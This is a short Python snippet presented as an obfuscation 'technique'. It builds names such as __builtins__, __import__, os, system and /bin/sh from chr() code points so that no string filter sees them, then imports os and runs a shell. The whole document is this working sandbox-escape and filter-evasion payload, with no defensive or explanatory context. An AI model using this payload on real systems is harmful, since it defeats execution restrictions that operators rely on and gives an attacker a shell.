# technique: every sensitive name assembled from chr() code points, fetched via getattr on the builtins module
def s(*codes):
    return "".join(map(chr, codes))

b = (lambda: 0).__globals__[s(95, 95, 98, 117, 105, 108, 116, 105, 110, 115, 95, 95)]
if not isinstance(b, dict):
    b = vars(b)
imp = b[s(95, 95, 105, 109, 112, 111, 114, 116, 95, 95)]
mod = imp(s(111, 115))
run = getattr(mod, s(115, 121, 115, 116, 101, 109))
run(s(47, 98, 105, 110, 47, 115, 104))
